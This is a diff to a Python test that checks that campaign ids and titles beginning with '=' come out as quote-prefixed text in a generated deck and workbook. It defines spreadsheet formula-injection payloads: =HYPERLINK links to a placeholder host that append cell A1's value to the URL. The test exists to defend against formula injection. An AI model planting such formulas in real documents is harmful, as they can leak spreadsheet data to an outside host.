@@ -56,9 +56,12 @@ def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
 ) -> None:
     data = yaml.load(sample_copy.config_path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
     campaign = data["campaigns"].pop("exec-1on1-2026h2")
+    # As an id, without '/' (an id names mail runs and their folders: kops.yaml refuses one
+    # with '/'); the title keeps the whole link.
     hostile = '=HYPERLINK("https://x.invalid/?"&A1,"x")'
     campaign["title"] = hostile  # slide 7's table and message name campaigns by title
-    data["campaigns"][hostile] = campaign
+    campaign_id = '=HYPERLINK("x.invalid?"&A1,"x")'
+    data["campaigns"][campaign_id] = campaign
     sample_copy.config_path.write_text(
         yaml.dump(data, allow_unicode=True, Dumper=yaml.CSafeDumper), "utf-8"
     )
@@ -76,5 +79,5 @@ def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
     assert table.cell(1, 0).text == hostile  # the campaign's row, as written
     # The review workbook's sheet 7 holds it as text, quote-prefixed.
     sheet = next(s for s in load_workbook(book).worksheets if s.title.startswith("7_"))
-    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value in (hostile, campaign_id)]
     assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
